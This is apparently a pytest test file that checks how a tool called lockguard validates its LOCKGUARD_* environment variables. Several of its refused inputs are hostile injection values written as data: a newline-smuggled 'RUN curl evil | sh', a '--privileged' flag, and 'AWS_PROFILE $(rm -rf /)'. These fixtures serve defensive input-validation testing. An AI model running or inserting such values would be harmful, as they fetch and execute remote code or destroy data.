"""LOCKGUARD_* environment variables are validated like config keys (lockguard/envvars.py):
an unknown name or an unusable value is one line naming the variable, exit 2, before any
command does anything; the readers take the checked value. Whole runs refused are in the
bad-input corpus (tests/test_bad_input.py)."""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

import pytest

from conftest import run_cli
from lockguard import envvars
from lockguard.envvars import EnvVarError, check

REPO = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("env, message", [
    ({"LOCKGUARD_JOBS": "abc"}, "LOCKGUARD_JOBS='abc': must be a whole number from 1 to 256"),
    ({"LOCKGUARD_JOBS": "0"}, "LOCKGUARD_JOBS='0'"),
    ({"LOCKGUARD_JOBS": "257"}, "LOCKGUARD_JOBS='257'"),
    ({"LOCKGUARD_JOBS": "\u0663"}, "LOCKGUARD_JOBS"),  # an Arabic-Indic 3: not for int()
    ({"LOCKGUARD_JOBS": "9" * 5000}, "LOCKGUARD_JOBS"),
    ({"LOCKGUARD_JOB": "2"}, "LOCKGUARD_JOB: not one lockguard knows (did you mean "
                             "LOCKGUARD_JOBS?"),
    ({"LOCKGUARD_CAHCE": "/x"}, "did you mean LOCKGUARD_CACHE?"),
    ({"LOCKGUARD_FROBNICATE": "1"}, "LOCKGUARD_FROBNICATE: not one lockguard knows (known: "),
    ({"LOCKGUARD_BASE_IMAGE": "python:3.11\nRUN curl evil | sh"}, "LOCKGUARD_BASE_IMAGE"),
    ({"LOCKGUARD_BASE_IMAGE": "--privileged"}, "LOCKGUARD_BASE_IMAGE"),
    ({"LOCKGUARD_IMAGES_DIR": "/nonexistent/images"}, "LOCKGUARD_IMAGES_DIR"),
    ({"LOCKGUARD_PIP_TOOLS_PYTHON": "/"}, "LOCKGUARD_PIP_TOOLS_PYTHON='/': must name an "
                                          "executable interpreter"),
    ({"LOCKGUARD_PIP_TOOLS_PYTHON": "no-such-python-here"}, "not on PATH"),
    ({"LOCKGUARD_INSTALLER_ENV": "AWS_PROFILE $(rm -rf /)"}, "LOCKGUARD_INSTALLER_ENV"),
    ({"LOCKGUARD_INSTALLER_ENV": "LOCKGUARD_CACHE"}, "none of lockguard's own"),
])
def test_unknown_names_and_unusable_values_are_refused(env, message):
    with pytest.raises(EnvVarError) as info:
        check(env)
    assert message in str(info.value)
    assert "\n" not in str(info.value)


def test_usable_values_and_empty_ones_pass(tmp_path):
    check({"LOCKGUARD_JOBS": "4", "LOCKGUARD_CACHE": "~/somewhere", "LOCKGUARD_BASE_IMAGE":
           "ghcr.io/org/base:1.2@sha256:" + "a" * 64, "LOCKGUARD_IMAGES_DIR": str(tmp_path),
           "LOCKGUARD_PIP_TOOLS_PYTHON": sys.executable,
           "LOCKGUARD_REPO": "https://github.com/org/lockguard", "LOCKGUARD_VERSION": "v1",
           "LOCKGUARD_INSTALLER_ENV": "AWS_PROFILE, GOOGLE_APPLICATION_CREDENTIALS",
           "OTHER": "anything", "LOCKGUARDX": "not the prefix"})
    # Empty is unset: a CI template passes optional inputs through as empty strings.
    check({name: "" for name in envvars.KNOWN})


def test_readers_take_the_checked_value(monkeypatch, tmp_path):
    from lockguard.cache import cache_root
    from lockguard.flows.pipeline import default_workers

    monkeypatch.setenv("LOCKGUARD_JOBS", "3")
    assert default_workers() == 3
    monkeypatch.setenv("LOCKGUARD_JOBS", "abc")  # no longer silently the default
    with pytest.raises(EnvVarError, match="LOCKGUARD_JOBS"):
        default_workers()
    monkeypatch.setenv("LOCKGUARD_CACHE", "~/lg-cache")  # as a CI template's env: passes it
    monkeypatch.setenv("HOME", str(tmp_path))
    assert cache_root() == tmp_path / "lg-cache"


def test_a_command_refuses_a_bad_variable_before_doing_anything(tmp_path):
    proc = run_cli("diff", "a.txt", "b.txt", cwd=tmp_path, env={"LOCKGUARD_JOBS": "many"})
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.splitlines() == [
        "lockguard: error: environment variable LOCKGUARD_JOBS='many': must be a whole number "
        "from 1 to 256 (training runs at once)"]
    # --help still works: the check runs with the command, not with click's parsing.
    assert run_cli("diff", "--help", cwd=tmp_path, env={"LOCKGUARD_JOBS": "many"}
                   ).returncode == 0


def test_the_projects_own_scripts_and_tests_set_only_known_names():
    """What this repository sets in an environment lockguard runs in: only names it knows.
    Names private to a script are removed before it runs lockguard (benchmarks/gpu/run.sh), or
    belong to scripts that never run it."""
    never_run_lockguard = {
        "LOCKGUARD_DOCKERD_LOG", "LOCKGUARD_DOCKER_WAIT",  # .ci/docker-setup.sh
        "LOCKGUARD_WHEELS_MAX_MIB", "LOCKGUARD_GPU_DRYRUN_VENV",  # benchmarks/gpu/prepare.sh
        "LOCKGUARD_TEST_SECRET",  # test_docker: an in-process unit test of the withheld env
    }
    places = [*REPO.glob("tests/*.py"), *REPO.glob("benchmarks/**/*.py"), *REPO.glob("dev/*.py"),
              *REPO.glob("benchmarks/**/*.sh"), *REPO.glob(".github/workflows/*.yml"),
              REPO / "action.yml", *REPO.glob(".ci/*")]
    found: dict[str, set[str]] = {}
    for path in places:
        # Left out: this file and the bad-input corpus, which set unknown names on purpose.
        if path.is_file() and path.name not in (Path(__file__).name, "test_bad_input.py"):
            for name in re.findall(r"\bLOCKGUARD_[A-Z_]+\b", path.read_text(errors="replace")):
                found.setdefault(name, set()).add(str(path.relative_to(REPO)))
    unknown = {n: sorted(p) for n, p in found.items()
               if n not in envvars.KNOWN and n not in never_run_lockguard
               and not n.startswith("LOCKGUARD_GPU_")}
    assert unknown == {}
    run_sh = (REPO / "benchmarks/gpu/run.sh").read_text()
    assert 'unset "${!LOCKGUARD_GPU_@}"' in run_sh
    assert run_sh.index('unset "${!LOCKGUARD_GPU_@}"') < run_sh.index("-m lockguard --version")
    assert os.environ.get("LOCKGUARD_PROCESS_TEST") is None
